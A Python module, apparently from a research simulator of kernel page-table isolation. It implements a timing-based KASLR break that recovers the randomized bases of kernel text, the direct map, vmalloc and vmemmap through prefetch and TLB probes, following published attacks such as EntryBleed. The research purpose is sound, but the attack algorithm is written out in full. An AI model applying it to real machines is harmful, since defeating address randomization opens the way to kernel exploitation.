"""The KASLR attacker: a user program that finds randomized kernel bases by probe timing alone.

This module is the attacker's side only, like `kaiser.attacks.meltdown`: it imports nothing of the
paging model (a test checks its imports and the names it uses). What it learns comes through a
`ProbePort`, which offers what an unprivileged process on a real machine has:

- `syscall()`: make a cheap system call (the "victim" whose entry path warms the TLB);
- `probe(va)`: `rdtscp; prefetchnta (va); prefetcht2 (va); rdtscp` (or a faulting load whose
  fault is suppressed), returning the measured cycles and nothing else.
- `rounds(vas, reps)`: the program's measurement loop, those two calls `reps` times per address,
  in one call (so that a fast machine model can run the loop compiled).

and a `Knowledge` value holding only what is public: the kernel's source and System.map (region
KASLR ranges and alignments, offsets of symbols from `_text`), `uname` (paging mode, era) and
`/proc/meminfo` (RAM size). None of it depends on the boot's random choices (a test checks that).

Two published attacks, one per kind of region:

* Kernel text (EntryBleed, Liu et al. HASP 2023; the prefetch attack of Gruss et al. CCS 2016):
  probe the address of `entry_SYSCALL_64` for every 2 MiB candidate of the 1 GiB image window,
  a system call before each probe, and keep the fast slots. A run of fast slots is the image
  itself mapped (no isolation, or an isolation that maps the image): `_text` is the run's start.
  Isolated fast slots are pages the system call left in the TLB (or that the user tables map):
  each is explained by a candidate base plus the offset of a symbol the system call touches, and
  the base that explains most of them (the entry text breaking ties, since it is the one page
  every entry must touch) is the guess.
* Direct map, vmalloc, vmemmap (1 GiB-aligned bases in ranges of tens of TiB): the
  translation-level oracle of Gruss et al. -- a walk is slower the deeper it goes before it finds
  a non-present entry, and a mapped page is fast -- scanned coarse to fine: one probe per
  top-level entry of the range, then 512 per level inside every slot that stands out, down to
  4 KiB. The mapped pages found lie at `base + o` with `0 <= o < extent`, where `extent` is what
  the attacker honestly knows of the region's use (RAM size for the direct map, whose base maps
  physical 0; the struct page array's size for vmemmap; 1 GiB for vmalloc, whose allocator hands
  out the lowest free range first). The base is guessed only if one aligned value fits.
"""

from __future__ import annotations

import statistics
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Protocol

PAGE = 4096
TABLE_BITS = 9  # 512 entries per paging structure


class ProbePort(Protocol):
    """The only interface the attacker gets: its process's view of one core."""

    def syscall(self) -> None: ...

    def probe(self, va: int) -> int: ...

    def rounds(self, vas: list[int], reps: int) -> list[list[int]]:
        """For each of `vas` in turn, `reps` times: `syscall()`, then `probe(va)`: the program's
        measurement loop, the cycles per address (the same as making those calls one by one)."""
        ...


@dataclass(frozen=True)
class RegionSpec:
    """A randomized memory region as the kernel source describes it (arch/x86/mm/kaslr.c)."""

    name: str
    lo: int  # lowest possible base
    hi: int  # highest possible base (inclusive)
    align: int  # base alignment
    size: int  # the region's reserved size (the next region starts above base + size)
    extent: int  # mapped data lie in [base, base + extent): the attacker's honest prior


@dataclass(frozen=True)
class Knowledge:
    """Public facts only: nothing in here depends on the boot's random choices."""

    top_shift: int  # 39 (4-level) or 48 (5-level): the span of a top-level entry
    image_window: tuple[int, int]  # [__START_KERNEL_map, + KERNEL_IMAGE_SIZE)
    text_base_range: tuple[int, int]  # lowest and highest possible _text (inclusive)
    text_align: int  # CONFIG_PHYSICAL_ALIGN
    symbols: dict[str, int]  # System.map: offsets from _text of what a system call touches
    entry_symbol: str  # the symbol every entry runs through (entry_SYSCALL_64 or none)
    regions: tuple[RegionSpec, ...]  # direct map, vmalloc, vmemmap, in address order


@dataclass(frozen=True)
class KaslrParams:
    """Knobs of the attack program."""

    reps: int = 2  # probes per address in the text scan (each after a system call); median taken
    region_reps: int = 5  # ... in the memory-region scans, whose level-to-level steps are smaller
    confirm_reps: int = 11  # probes per address to confirm that it stands out
    z: float = 3.0  # "stands out": |t - scan median| > z * robust sd of the scan
    floor: float = 6.0  # ... and at least this many cycles (timer resolution)
    min_run: int = 3  # this many adjacent fast 2 MiB slots mean the image itself is mapped
    max_descend: int = 6  # slots followed into the next level per scan at most

    def __post_init__(self) -> None:
        if min(self.reps, self.region_reps, self.confirm_reps) < 1:
            raise ValueError("reps, region_reps and confirm_reps must be at least 1")


@dataclass
class RegionGuess:
    """What the attacker concluded about one region."""

    region: str
    guess: int | None
    candidates: int  # aligned bases consistent with the evidence (0: nothing found)
    found: list[int] = field(default_factory=list)  # addresses that stood out as mapped/cached
    how: str = ""
    probes: int = 0

    def as_dict(self) -> dict[str, object]:
        return {
            "region": self.region,
            "guess": None if self.guess is None else hex(self.guess),
            "candidates": self.candidates,
            "found": [hex(a) for a in self.found[:8]],
            "how": self.how,
            "probes": self.probes,
        }


def _robust_sd(values: list[float]) -> float:
    med = statistics.median(values)
    return 1.4826 * statistics.median(abs(v - med) for v in values)


class KaslrAttacker:
    """Prefetch/TLB timing KASLR break, driven only through a `ProbePort`."""

    def __init__(self, port: ProbePort, knowledge: Knowledge, params: KaslrParams | None = None) -> None:
        self.port = port
        self.k = knowledge
        self.params = params or KaslrParams()
        self.probes = 0

    # ---- measurement ------------------------------------------------------------------------
    def timed(self, vas: list[int], reps: int) -> list[float]:
        """For each of `vas` in turn, the median over `reps` rounds of: a system call, then one
        timed probe of it."""
        rounds = self.port.rounds(vas, reps)
        self.probes += reps * len(vas)
        return [statistics.median(times) for times in rounds]

    def scan(self, addresses: list[int], reps: int) -> tuple[list[int], list[int]]:
        """Probe every address `reps` times; return (fast, slow): those that stand out below or
        above the scan's median, each confirmed by a longer measurement."""
        p = self.params
        times = dict(zip(addresses, self.timed(addresses, reps), strict=True))
        if len(times) < 4:
            return [], []
        values = list(times.values())
        med = statistics.median(values)
        margin = max(p.z * _robust_sd(values), p.floor)
        outliers = [a for a, t in times.items() if abs(t - med) > margin]
        fast, slow = [], []
        # a second, longer look at each outlier: outliers do not survive it
        for a, t in zip(outliers, self.timed(outliers, p.confirm_reps), strict=True):
            if t < med - margin:
                fast.append(a)
            elif t > med + margin:
                slow.append(a)
        return fast, slow

    # ---- kernel text ------------------------------------------------------------------------
    def find_text(self) -> RegionGuess:
        k = self.k
        start = self.probes
        lo, hi = k.image_window
        align = k.text_align
        entry = k.symbols.get(k.entry_symbol, 0)
        within = entry % align  # probe each slot at the entry symbol's place in its 2 MiB
        fast, _ = self.scan([s + within for s in range(lo, hi, align)], self.params.reps)
        slots = sorted({a - within for a in fast})
        guess, candidates, how = self._text_from_slots(slots)
        return RegionGuess("text", guess, candidates, [s + within for s in slots], how, self.probes - start)

    def _text_from_slots(self, slots: list[int]) -> tuple[int | None, int, str]:
        k, align = self.k, self.k.text_align
        lo_base, hi_base = k.text_base_range
        if not slots:
            return None, 0, "no fast slot in the image window"
        runs: list[list[int]] = []
        for s in slots:
            if runs and s - runs[-1][-1] == align:
                runs[-1].append(s)
            else:
                runs.append([s])
        longest = max(runs, key=len)
        if len(longest) >= self.params.min_run:
            first = min((r for r in runs if len(r) >= self.params.min_run), key=lambda r: r[0])
            return first[0], 1, f"image mapped: {len(first)} adjacent fast 2 MiB slots from _text"
        entry_slot = k.symbols[k.entry_symbol] - k.symbols[k.entry_symbol] % align
        offsets = {o - o % align for o in k.symbols.values()}  # the 2 MiB slots a call touches
        scores: dict[int, tuple[int, int]] = {}
        for offset in offsets:
            for s in slots:
                base = s - offset
                if lo_base <= base <= hi_base:
                    count, has_entry = scores.get(base, (0, 0))
                    scores[base] = (count + 1, has_entry or int(offset == entry_slot))
        if not scores:
            return None, 0, f"{len(slots)} fast slot(s), none explained by a known symbol"
        best = max(scores.values())
        winners = [b for b, sc in scores.items() if sc == best]
        if len(winners) != 1:
            return None, len(winners), f"{len(winners)} bases explain the fast slots equally"
        return winners[0], 1, f"{len(slots)} fast slot(s); {best[0]} explained by the symbols a system call touches"

    # ---- direct map, vmalloc, vmemmap ----------------------------------------------------------
    def find_region(self, spec: RegionSpec, lo: int) -> RegionGuess:
        """Coarse-to-fine walk-depth scan of [lo, spec.hi + extent) for the lowest cluster of
        mapped pages; then the aligned bases that cluster allows."""
        start_probes = self.probes
        top = self.k.top_shift
        end = spec.hi + spec.extent
        first = lo & ~((1 << top) - 1)
        found: list[int] = []
        frontier = [(first, end, top)]  # (start, end, shift): probe every 1 << shift in [start, end)
        while frontier:
            frontier.sort()
            s, e, shift = frontier.pop(0)
            if found and s >= min(found) + spec.extent:
                break  # beyond the lowest cluster: another region's pages
            step = 1 << shift
            addresses = list(range(s, e, step))
            fast, slow = self.scan(addresses, self.params.region_reps)
            if shift < top and not fast and not slow:
                # We came here because this slot walked deeper: something lies below. A scan
                # that saw nothing stand out is repeated once, with three times the probes.
                fast, slow = self.scan(addresses, 3 * self.params.region_reps)
            found += [a for a in fast if a >= lo]
            if shift > 12:
                for a in sorted(slow)[: self.params.max_descend]:
                    frontier.append((a, a + step, shift - TABLE_BITS))
        found.sort()
        cluster = [a for a in found if found and a < found[0] + spec.extent]
        probes = self.probes - start_probes
        if not cluster:
            return RegionGuess(spec.name, None, 0, [], "nothing mapped found", probes)
        low = max(spec.lo, cluster[-1] - spec.extent + 1)
        high = min(spec.hi, cluster[0])
        first_aligned = -(-low // spec.align) * spec.align
        candidates = list(range(first_aligned, high + 1, spec.align)) if first_aligned <= high else []
        what = f"{len(cluster)} mapped page(s) from {cluster[0]:#x}"
        if len(candidates) == 1:
            return RegionGuess(spec.name, candidates[0], 1, cluster, what, probes)
        return RegionGuess(
            spec.name, None, len(candidates), cluster, f"{what}: {len(candidates)} aligned bases fit", probes
        )

    def run(
        self,
        progress: Callable[[str], None] | None = None,
        regions: tuple[str, ...] = ("text", "direct_map", "vmalloc", "vmemmap"),
    ) -> list[RegionGuess]:
        """Text first, then the memory regions in address order, each searched above the lowest
        end the previous one can have. A memory region below a requested one is searched too
        (its pages must not be mistaken for the next region's) but only requested ones return."""
        out = []
        if "text" in regions:
            out.append(self.find_text())
            if progress:
                progress("text")
        wanted = [s.name for s in self.k.regions if s.name in regions]
        lo = self.k.regions[0].lo
        for spec in self.k.regions:
            if not wanted:
                break
            lo = max(lo, spec.lo)
            guess = self.find_region(spec, lo)
            if spec.name in wanted:
                out.append(guess)
                wanted.remove(spec.name)
            if guess.found:  # the next region starts above this one's lowest possible end
                lo = max(lo, guess.found[-1] - spec.extent + 1 + spec.size)
            if progress:
                progress(spec.name)
        return out
